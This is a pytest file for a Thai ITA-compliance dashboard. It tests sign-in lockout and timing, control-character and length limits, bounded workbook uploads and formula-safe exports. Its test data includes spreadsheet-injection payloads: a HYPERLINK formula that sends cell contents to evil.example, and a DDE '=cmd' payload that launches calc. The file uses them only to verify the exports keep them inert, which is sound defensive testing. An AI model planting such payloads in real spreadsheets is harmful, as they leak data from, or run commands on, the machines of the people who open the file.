"""Issue 12 (items 4–8): sign-in that resists guessing, text limits and control characters refused alike on SQLite and
PostgreSQL, bounded workbook reading, exports that never turn typed text into a formula, and the store's remaining
permission gaps. The page-level "bad input" cases are at the end (AppTest)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import statistics
import time
import zipfile

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from helpers.environment import ROOT
from helpers.sign_in import parallel_guesses
from ita_dash.domain.accounts import WRONG, SignInRefused, User
from ita_dash.domain.entries import FollowUpEntry, InvalidEntry, MeasureEntry, OitEntry
from ita_dash.domain.fields import Limit, bad_characters, text_problem
from ita_dash.domain.fiscal import Month
from ita_dash.domain.model import Actor, FollowUpStatus, ItaResult, OitStatus, Role
from ita_dash.domain.permissions import NotAllowed
from ita_dash.domain.status import assess_unit
from ita_dash.importers.plan import PlanFileError, read_rows
from ita_dash.reports.cells import csv_bytes
from ita_dash.reports.monthly import monthly_xlsx
from ita_dash.reports.results import results_xlsx
from ita_dash.store.base import StaleVersion
from ita_dash.store.demo import DEMO_ACCOUNTS
from ita_dash.store.sql import SqlStore
from ita_dash.store.tables import AuditRow, FollowUpRow, ItaResultRow, MeasureRow, UserRow

USERS = {user.username: user for user, _ in DEMO_ACCOUNTS}
HEAD = USERS["demo.head"].as_actor()  # section head of DEMO-01, งานอำนวยการ
CHIEF = USERS["demo.chief"].as_actor()
SYSTEM = Actor.system("test")
NOW = dt.datetime(2026, 11, 21, 3, 0, tzinfo=dt.UTC)
FY = 2570
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "+1", "-2", "@SUM(A1)", "\tแท็บนำหน้า", "\rขึ้นบรรทัด",
            "=1+1"]


def counts(store) -> dict[str, int]:
    """The data version and the number of rows that a refused input must leave as they were."""
    with store.engine.connect() as connection:
        rows = {table.__tablename__: connection.execute(select(func.count()).select_from(table)).scalar_one()
                for table in (AuditRow, FollowUpRow, MeasureRow, ItaResultRow, UserRow)}
    return {"data_version": store.data_version(), **rows}


# -- 4. sign-in that resists guessing ------------------------------------------------------------------------------


def test_a_burst_of_parallel_wrong_passwords_ends_locked(demo_store):
    """30 wrong passwords at once, each on its own connection, then the right one: locked."""
    url = demo_store.url
    outcomes = parallel_guesses(url, "demo.head", NOW)
    assert len(outcomes) == 30 and all(isinstance(o, str) and o != "signed in" for o in outcomes), outcomes
    with pytest.raises(SignInRefused) as refused:  # locked for a browser it does not know (issue 35: one answer)
        demo_store.sign_in("demo.head", "demo-head-pass", NOW + dt.timedelta(seconds=1))
    assert str(refused.value) == WRONG
    user = demo_store.get_user("demo.head")
    assert user.locked_until is not None and user.locked_until > NOW
    with demo_store.engine.connect() as connection:  # locked once, one audit line
        assert connection.execute(select(func.count()).select_from(AuditRow).where(
            AuditRow.record_key == "user:demo.head", AuditRow.field == "locked_until")).scalar_one() == 1


def test_four_wrong_then_right_still_signs_in_and_clears_the_count(demo_store):
    for _ in range(4):
        with pytest.raises(SignInRefused):
            demo_store.sign_in("demo.head", "wrong", NOW)
    assert demo_store.get_user("demo.head").failed_attempts == 4
    assert demo_store.sign_in("demo.head", "demo-head-pass", NOW).failed_attempts == 0


def test_an_unknown_user_takes_as_long_as_a_wrong_password_and_hears_the_same(store_url, tmp_path):
    store = SqlStore(store_url)
    store.add_user(SYSTEM, User(username="timing.admin", role=Role.ADMIN), "a-long-password")

    def seconds(username: str) -> tuple[float, str]:
        began = time.perf_counter()
        with pytest.raises(SignInRefused) as refusal:
            store.sign_in(username, "not-the-password", NOW)
        return time.perf_counter() - began, str(refusal.value)

    seconds("timing.admin"), seconds("nobody.here")  # warm up (the dummy hash is made once)
    wrong, unknown = [], []
    for _ in range(15):
        for name, bucket in (("timing.admin", wrong), ("nobody.here", unknown)):
            taken, message = seconds(name)
            bucket.append(taken)
            assert message == "ชื่อผู้ใช้หรือรหัสผ่านไม่ถูกต้อง"
        with store.engine.begin() as connection:  # keep the real account below the lockout
            connection.execute(UserRow.__table__.update().values(failed_attempts=0))
    ratio = statistics.median(unknown) / statistics.median(wrong)
    store.close()
    assert 0.8 < ratio < 1.2, (ratio, statistics.median(unknown), statistics.median(wrong))


# -- 5. control characters and lengths, at input, the same on both databases --------------------------------------


def test_the_domain_check_names_what_is_wrong():
    assert bad_characters("a\x00b\x07c\n\t") == ["U+0000", "U+0007", "U+000A", "U+0009"]
    assert bad_characters("ขึ้น\nบรรทัด\tแท็บ", multiline=True) == []
    assert "อักขระควบคุม" in text_problem("a\x00", Limit(10, multiline=True))
    assert text_problem("ก" * 11, Limit(10)) == "ยาวเกิน 10 ตัวอักษร (11)"
    assert text_problem("ก" * 10, Limit(10)) is None


def test_nul_in_the_sign_in_form_is_refused_naming_the_field(demo_store):
    before = counts(demo_store)
    with pytest.raises(SignInRefused, match="^ชื่อผู้ใช้: มีอักขระควบคุม"):
        demo_store.sign_in("demo.head\x00", "demo-head-pass", NOW)
    with pytest.raises(SignInRefused, match="^รหัสผ่าน: มีอักขระควบคุม"):
        demo_store.sign_in("demo.head", "demo-head-pass\x00", NOW)
    with pytest.raises(SignInRefused, match="^ชื่อผู้ใช้: ยาวเกิน 60"):
        demo_store.sign_in("x" * 61, "whatever", NOW)
    assert counts(demo_store) == before


def _head_measure(store):
    data = store.load_unit_year(SYSTEM, "DEMO-01", FY)
    return next(m for m in data.measures if m.owner_section == HEAD.section_code and not m.retired)


@pytest.mark.parametrize("note, message", [
    ("บันทึก\x00ซ่อน", "บันทึก: มีอักขระควบคุม"),
    ("เสียง\x07กระดิ่ง", "บันทึก: มีอักขระควบคุม"),
    ("ย" * 501, "บันทึก: ยาวเกิน 500"),
])
def test_a_bad_note_is_refused_and_nothing_is_written(demo_store, note, message):
    measure = _head_measure(demo_store)
    before = counts(demo_store)
    with pytest.raises(InvalidEntry, match=message):
        demo_store.save_follow_up(HEAD, "DEMO-01", FY, FollowUpEntry(measure.code, "2026-11", FollowUpStatus.IN_PROGRESS,
                                                                      40, note), NOW)
    assert counts(demo_store) == before


def test_a_note_on_two_lines_with_a_tab_is_fine(demo_store):
    measure = _head_measure(demo_store)
    saved = demo_store.save_follow_up(HEAD, "DEMO-01", FY, FollowUpEntry(
        measure.code, "2026-11", FollowUpStatus.IN_PROGRESS, 40, "บรรทัดแรก\n\tบรรทัดสอง"), NOW)
    assert saved.note == "บรรทัดแรก\n\tบรรทัดสอง"


def test_a_5000_character_activity_and_control_characters_in_measures_are_refused(demo_store):
    before = counts(demo_store)
    with pytest.raises(InvalidEntry, match="กิจกรรม: ยาวเกิน 4,000 ตัวอักษร"):
        demo_store.save_measure(CHIEF, "DEMO-01", FY, MeasureEntry(1, "ก" * 5000))
    with pytest.raises(InvalidEntry, match="ผลผลิต: มีอักขระควบคุม"):
        demo_store.save_measure(CHIEF, "DEMO-01", FY, MeasureEntry(1, "ติดป้าย", {"output": "ป้าย\x00"}))
    with pytest.raises(InvalidEntry, match="กำหนดเสร็จตามที่เขียนในแผน: มีอักขระควบคุม"):  # a one-line field: no line feed
        demo_store.save_measure(CHIEF, "DEMO-01", FY, MeasureEntry(1, "ติดป้าย", {"deadline_text": "ก.ย.\n2570"}))
    measure = _head_measure(demo_store)
    with pytest.raises(InvalidEntry, match="ลิงก์: มีอักขระควบคุม"):
        demo_store.save_oit_item(CHIEF, "DEMO-01", FY, OitEntry("O1", OitStatus.DRAFTING, "https://a.example/\x00"))
    with pytest.raises(InvalidEntry, match="ลิงก์หลักฐาน"):
        demo_store.save_follow_up(HEAD, "DEMO-01", FY, FollowUpEntry(measure.code, "2026-11", FollowUpStatus.IN_PROGRESS,
                                                                      40, "", "https://a.example/\x00"), NOW)
    assert counts(demo_store) == before


def test_accounts_and_imported_plans_go_through_the_same_check(demo_store):
    before = counts(demo_store)
    with pytest.raises(InvalidEntry, match="ชื่อที่แสดง: มีอักขระควบคุม"):
        demo_store.add_user(SYSTEM, User(username="new.chief", role=Role.CHIEF, unit_code="DEMO-01",
                                         display_name="ผกก.\x00"), "a-long-password")
    with pytest.raises(InvalidEntry, match="รหัสผ่าน: มีอักขระควบคุม"):
        demo_store.reset_password(SYSTEM, "demo.head", "a-long-password\x00")
    measure = _head_measure(demo_store)
    with pytest.raises(InvalidEntry, match="กิจกรรม \\(มาตรการที่ 1 .*\\): มีอักขระควบคุม"):
        demo_store.import_plan(CHIEF, "DEMO-01", FY, [measure.model_copy(update={"activity": "ก\x00ข"})])
    assert counts(demo_store) == before


def test_nul_never_reaches_the_database_even_past_the_domain(demo_store):
    """The engine's own guard: a statement carrying NUL is refused alike on both databases (PostgreSQL would raise
    DataError), whatever path it came by."""
    before = counts(demo_store)
    with pytest.raises(InvalidEntry, match="NUL"):
        demo_store.get_unit(SYSTEM, "DEMO\x0001")
    with pytest.raises(InvalidEntry, match="NUL"):
        demo_store.record_sheet_edit(CHIEF, "DEMO-01", "measure/1-01", {"activity": ("เดิม", "ใหม่\x00")})
    assert counts(demo_store) == before


def test_a_bundle_with_control_characters_is_refused_whole(demo_store):
    from ita_dash.store.bundle import BundleError, dumps, loads

    data = demo_store.load_unit_year(SYSTEM, "DEMO-01", FY)
    first = data.measures[0]
    text = dumps(data).replace(f'"activity": "{first.activity}"', f'"activity": "{first.activity}\\u0000"', 1)
    with pytest.raises(BundleError, match=r"measures\[0\]\.activity: มีอักขระควบคุม"):
        loads(text)
    before = counts(demo_store)
    bad = data.model_copy(update={"measures": [first.model_copy(update={"activity": "ก\x00"}), *data.measures[1:]]})
    with pytest.raises(InvalidEntry, match="กิจกรรม"):
        demo_store.replace_unit_year(CHIEF, bad)
    assert counts(demo_store) == before


# -- 8. the store's remaining gaps ----------------------------------------------------------------------------------


def test_record_sheet_edit_checks_permissions_like_every_write(demo_store):
    viewer, province = USERS["demo.viewer"].as_actor(), USERS["demo.province"].as_actor()
    before = counts(demo_store)
    for actor, unit in ((viewer, "DEMO-01"), (province, "DEMO-01"), (CHIEF, "DEMO-02"), (HEAD, "DEMO-02")):
        with pytest.raises(NotAllowed):
            demo_store.record_sheet_edit(actor, unit, "measure/1-01", {"activity": ("เดิม", "ใหม่")})
    assert counts(demo_store) == before
    demo_store.record_sheet_edit(HEAD, "DEMO-01", "1-01/2026-11", {"หมายเหตุ": ("", "ติดตั้งแล้ว")})
    assert demo_store.history(CHIEF, "DEMO-01", "1-01/2026-11")[0].new_value == "ติดตั้งแล้ว"


def test_a_chiefs_bundle_cannot_rename_or_move_its_unit_or_rename_its_province_or_region(demo_store):
    data = demo_store.load_unit_year(SYSTEM, "DEMO-01", FY)
    other_province = next(p for p in demo_store.list_provinces(SYSTEM) if p.code != data.province.code) \
        if len(demo_store.list_provinces(SYSTEM)) > 1 else None
    changes = [
        {"unit": data.unit.model_copy(update={"name": "สภ.ชื่อใหม่"})},
        {"unit": data.unit.model_copy(update={"province_code": "ELSEWHERE"}),
         "province": data.province.model_copy(update={"code": "ELSEWHERE"})},
        {"province": data.province.model_copy(update={"name": "จังหวัดชื่อใหม่"})},
        {"province": data.province.model_copy(update={"region_code": "R9"}),
         "region": data.region.model_copy(update={"code": "R9"})},
        {"region": data.region.model_copy(update={"name": "ภาคใหม่"})},
    ]
    if other_province is not None:
        changes.append({"unit": data.unit.model_copy(update={"province_code": other_province.code}),
                        "province": other_province})
    before = counts(demo_store)
    for update in changes:
        with pytest.raises(NotAllowed, match="เฉพาะผู้ดูแลระบบ"):
            demo_store.replace_unit_year(CHIEF, data.model_copy(update=update))
    assert counts(demo_store) == before
    assert {p.code for p in demo_store.list_provinces(SYSTEM)} == {data.province.code} | (
        {other_province.code} if other_province else set())
    demo_store.replace_unit_year(CHIEF, data)  # the same places: fine
    demo_store.replace_unit_year(SYSTEM, data.model_copy(update={"unit": data.unit.model_copy(update={"name": "สภ.ใหม่"})}))
    assert demo_store.get_unit(SYSTEM, "DEMO-01").name == "สภ.ใหม่"


def test_a_section_head_cannot_take_back_an_approved_item_or_change_its_link(demo_store):
    item = next(i for i in demo_store.load_unit_year(HEAD, "DEMO-01", FY).oit_items if i.owner_section == "admin")
    sent = demo_store.save_oit_item(HEAD, "DEMO-01", FY, OitEntry(item.code, OitStatus.READY_FOR_REVIEW,
                                                                 "https://demo.example.go.th/oit", base_version=item.version))
    for status in (OitStatus.APPROVED, OitStatus.PUBLISHED):
        done = demo_store.save_oit_item(CHIEF, "DEMO-01", FY, OitEntry(item.code, status, sent.link,
                                                                       base_version=_version(demo_store, item.code)))
        before = counts(demo_store)
        for back in (OitStatus.DRAFTING, OitStatus.READY_FOR_REVIEW, OitStatus.NOT_STARTED):
            with pytest.raises(NotAllowed, match="หลังอนุมัติ"):
                demo_store.save_oit_item(HEAD, "DEMO-01", FY, OitEntry(item.code, back, done.link, base_version=done.version))
        with pytest.raises(NotAllowed, match="หลังอนุมัติ"):
            demo_store.save_oit_item(HEAD, "DEMO-01", FY, OitEntry(item.code, status, "https://elsewhere.example/",
                                                                  base_version=done.version))
        assert counts(demo_store) == before
    back = demo_store.save_oit_item(CHIEF, "DEMO-01", FY, OitEntry(item.code, OitStatus.DRAFTING, sent.link,
                                                                  base_version=_version(demo_store, item.code)))
    assert back.status is OitStatus.DRAFTING  # the chief may


def _version(store, code: str) -> int:
    return next(i.version for i in store.load_unit_year(SYSTEM, "DEMO-01", FY).oit_items if i.code == code)


def test_ita_results_carry_a_version_and_their_audit_lines_the_true_old_value(demo_store):
    year = 2560
    added = demo_store.save_result(CHIEF, "DEMO-01", ItaResult(fiscal_year=year, iit=80, eit=81, oit=82, total=81.5,
                                                               level="B"))
    assert added.version == 1
    with pytest.raises(StaleVersion):  # "new" while one exists
        demo_store.save_result(CHIEF, "DEMO-01", ItaResult(fiscal_year=year, total=90, level="A"))
    changed = demo_store.save_result(CHIEF, "DEMO-01", added.model_copy(update={"total": 86.25, "level": "A"}),
                                     base_version=1)
    assert changed.version == 2 and changed.total == 86.25
    before = counts(demo_store)
    with pytest.raises(StaleVersion) as stale:
        demo_store.save_result(CHIEF, "DEMO-01", added.model_copy(update={"total": 99.0, "level": "AA"}), base_version=1)
    assert stale.value.current.total == 86.25 and stale.value.current.version == 2
    assert counts(demo_store) == before
    lines = {(e.field, e.old_value, e.new_value) for e in demo_store.history(CHIEF, "DEMO-01", f"ita_result:DEMO-01/{year}")}
    assert ("total", "81.5", "86.25") in lines and ("level", "B", "A") in lines and ("total", None, "81.5") in lines
    assert [r.version for r in demo_store.load_unit_year(CHIEF, "DEMO-01", FY).results if r.fiscal_year == year] == [2]


def test_an_account_for_a_unit_or_section_that_does_not_exist_is_refused(demo_store):
    before = counts(demo_store)
    for user, field in ((User(username="x.chief", role=Role.CHIEF, unit_code="NOWHERE"), "ไม่มีหน่วยรหัส NOWHERE"),
                        (User(username="x.head", role=Role.SECTION_HEAD, unit_code="DEMO-01", section_code="nope"),
                         "ไม่มีสายงาน nope"),
                        (User(username="x.prov", role=Role.PROVINCE, province_code="NOPE"), "ไม่มีจังหวัดรหัส NOPE")):
        with pytest.raises(InvalidEntry, match=field):
            demo_store.add_user(SYSTEM, user, "a-long-password")
    assert counts(demo_store) == before


# -- 6. bounded uploads --------------------------------------------------------------------------------------------


def far_cell_xlsx(declared: bool = True) -> bytes:
    """A 5 KB workbook whose only cell sits at row 200,000, column 2,000 (without its <dimension>: ``declared``)."""
    book = Workbook()
    book.active.cell(row=200_000, column=2_000).value = "ไกล"
    buffer = io.BytesIO()
    book.save(buffer)
    content = buffer.getvalue()
    if declared:
        return content
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"<dimension[^>]*/>", b"", data)
            target.writestr(info, data)
    return out.getvalue()


@pytest.mark.parametrize("declared", [True, False])
def test_a_far_cell_workbook_is_refused_with_a_thai_reason(declared):
    content = far_cell_xlsx(declared)
    assert len(content) < 8_000
    with pytest.raises(PlanFileError, match="200,000"):
        read_rows("plan.xlsx", content)


def test_too_many_columns_rows_or_bytes_are_refused():
    book = Workbook()
    book.active.cell(row=3, column=61).value = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(PlanFileError, match="60 คอลัมน์"):
        read_rows("plan.xlsx", buffer.getvalue())
    with pytest.raises(PlanFileError, match="5,000 แถว"):
        read_rows("plan.csv", ("ก,ข\n" * 5001).encode())
    with pytest.raises(PlanFileError, match="5 MB"):
        read_rows("plan.csv", b"a" * (5 * 1024 * 1024 + 1))
    with pytest.raises(PlanFileError, match="เซลล์ B2 มีอักขระควบคุม"):
        read_rows("plan.csv", "ตัวชี้วัด,กิจกรรม\n1,ติด\x00ป้าย\n".encode())


def test_the_upload_limit_is_configured():
    config = (ROOT / ".streamlit" / "config.toml").read_text()
    assert re.search(r"(?m)^maxUploadSize\s*=\s*10\s*$", config)


# -- 7. exports safe to open ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def formula_status(demo_db, templates):
    """DEMO-04's 2569 with formula-looking text everywhere a user types: notes, activities, outputs, unit name."""
    store = SqlStore(demo_db)
    data = store.load_unit_year(SYSTEM, "DEMO-04", 2569)
    store.close()
    follow_ups = [f.model_copy(update={"note": FORMULAS[i % len(FORMULAS)], "evidence_url": ""})
                  for i, f in enumerate(data.follow_ups)]
    measures = [m.model_copy(update={"activity": FORMULAS[i % len(FORMULAS)], "output": FORMULAS[-1 - i % len(FORMULAS)],
                                     "outcome": "=cmd|' /C calc'!A0"})
                for i, m in enumerate(data.measures)]
    data = data.model_copy(update={"follow_ups": follow_ups, "measures": measures,
                                   "unit": data.unit.model_copy(update={"name": "@SUM(A1) สภ.ทดสอบ"})})
    return assess_unit(templates.for_year(data.unit.kind, 2569), data, dt.date(2026, 9, 30))


def assert_inert_xlsx(content: bytes) -> list[str]:
    """No formula in any cell (neither openpyxl's view nor the raw XML); returns every text cell."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_every_xlsx_export_keeps_formula_looking_text_as_text(formula_status):
    data = formula_status.data
    months = sorted({f.month for f in data.follow_ups})
    outputs = {"results": results_xlsx(formula_status)}
    for month in months[:3]:
        outputs[f"monthly {month}"] = monthly_xlsx(data, Month.parse(month), formula_status.as_of)
    for name, content in outputs.items():
        texts = assert_inert_xlsx(content)
        typed = [t for t in texts if t in FORMULAS or t.startswith(("=cmd", "@SUM"))]
        assert typed, f"{name}: the typed text is not in the file"
    results_texts = assert_inert_xlsx(outputs["results"])
    assert FORMULAS[0] in results_texts and "=cmd|' /C calc'!A0" in results_texts


def test_every_csv_export_keeps_formula_looking_text_inert():
    frame = pd.DataFrame([{"ค่าใหม่": text, "ผู้แก้ไข": "demo.head"} for text in FORMULAS] + [{"ค่าใหม่": 5, "ผู้แก้ไข": "-x"}])
    content = csv_bytes(frame)
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS) + 2
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert f"'{FORMULAS[0]}" in [r[0] for r in rows] and "'-x" in [r[1] for r in rows]


def test_every_spreadsheet_writer_goes_through_cells_py():
    """A guard for writers added later: a module that writes .xlsx or .csv must use ita_dash/reports/cells.py, and
    no module appends raw rows to a sheet or writes a DataFrame to CSV by itself."""
    writers = re.compile(r"\bWorkbook\(|\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    raw = re.compile(r"\bsheet\.append\(|\bws\.append\(|\.to_csv\(")
    offenders = []
    for path in [*(ROOT / "ita_dash").rglob("*.py"), *(ROOT / "pages").glob("*.py"), ROOT / "app.py"]:
        if path.name == "cells.py" or "importers" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        if writers.search(source) and "reports.cells" not in source and "from .cells" not in source:
            offenders.append(f"{path.relative_to(ROOT)}: writes a spreadsheet without reports/cells.py")
        if raw.search(source):
            offenders.append(f"{path.relative_to(ROOT)}: appends raw rows or calls to_csv (use append_row/csv_bytes)")
    assert not offenders, offenders


# -- the bad inputs, played through the pages (AppTest) -------------------------------------------------------------


def test_every_bad_input_gets_a_thai_refusal_or_inert_text_and_no_traceback(monkeypatch, demo_store):
    """NUL in the sign-in form and in a note, a 5,000-character activity, the far-cell workbook: refused in Thai with
    the database unchanged; formula-looking notes saved and exported to .xlsx and .csv: inert text."""
    from helpers.app import button, make_app

    url = demo_store.url
    before = counts(demo_store)

    sign_in = make_app(monkeypatch, url, user=None)
    sign_in.run()
    sign_in.text_input(key="sign_in_username").set_value("demo.head\x00")
    sign_in.text_input(key="sign_in_password").set_value("demo-head-pass")
    button(sign_in, "เข้าสู่ระบบ").click().run()
    assert not sign_in.exception, sign_in.exception
    assert any(e.value.startswith("ชื่อผู้ใช้: มีอักขระควบคุม") for e in sign_in.error), [e.value for e in sign_in.error]

    head = make_app(monkeypatch, url, user="demo.head")
    head.switch_page("pages/my_section.py").run()
    key = next(s.key for s in head.slider if s.key and s.key.startswith("pc|")).removeprefix("pc|")  # the open card
    head.button_group(key=f"st|{key}").set_value(FollowUpStatus.IN_PROGRESS)
    head.text_input(key=f"nt|{key}").set_value("ติดตั้งป้าย\x00แล้ว")
    head.button(key=f"save|{key}").click().run()
    assert not head.exception, head.exception
    assert any("บันทึก" in e.value and "อักขระควบคุม" in e.value for e in head.error), [e.value for e in head.error]

    chief = make_app(monkeypatch, url, user="demo.chief", unit="DEMO-01", fy=str(FY))
    chief.switch_page("pages/manage.py").run()
    chief.text_area(key="new_activity").set_value("ก" * 5000)
    button(chief, "เพิ่มมาตรการ").click().run()
    assert not chief.exception, chief.exception
    assert any("กิจกรรม" in e.value and "ยาวเกิน 4,000" in e.value for e in chief.error), [e.value for e in chief.error]

    upload = make_app(monkeypatch, url, user="demo.chief", unit="DEMO-01", fy=str(FY))
    upload.switch_page("pages/import_plan.py").run()
    upload.file_uploader[0].set_value(("plan.xlsx", far_cell_xlsx(), XLSX)).run()
    assert not upload.exception, upload.exception
    assert any("200,000" in e.value for e in upload.error), [e.value for e in upload.error]

    assert counts(demo_store) == before  # nothing refused was written, the data version did not move

    head = make_app(monkeypatch, url, user="demo.head")
    head.switch_page("pages/my_section.py").run()
    head.button_group(key=f"st|{key}").set_value(FollowUpStatus.IN_PROGRESS)
    head.text_input(key=f"nt|{key}").set_value(FORMULAS[0])
    head.button(key=f"save|{key}").click().run()
    assert not head.exception and not head.error, [e.value for e in head.error]
    code, month = key.split("|")
    assert demo_store.follow_up(SYSTEM, "DEMO-01", FY, code, month).note == FORMULAS[0]
    data = demo_store.load_unit_year(SYSTEM, "DEMO-01", FY)
    later = dt.date.today() + dt.timedelta(days=2)  # the report was entered now, by the real clock
    assert FORMULAS[0] in assert_inert_xlsx(monthly_xlsx(data, Month.parse(month), later))
    status = assess_unit(demo_store.templates.for_year(data.unit.kind, FY), data, later)
    assert FORMULAS[0] in " ".join(assert_inert_xlsx(results_xlsx(status)))
    history = demo_store.history(SYSTEM, "DEMO-01")
    content = csv_bytes(pd.DataFrame([{"ค่าใหม่": e.new_value} for e in history]))
    cells = [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))]
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
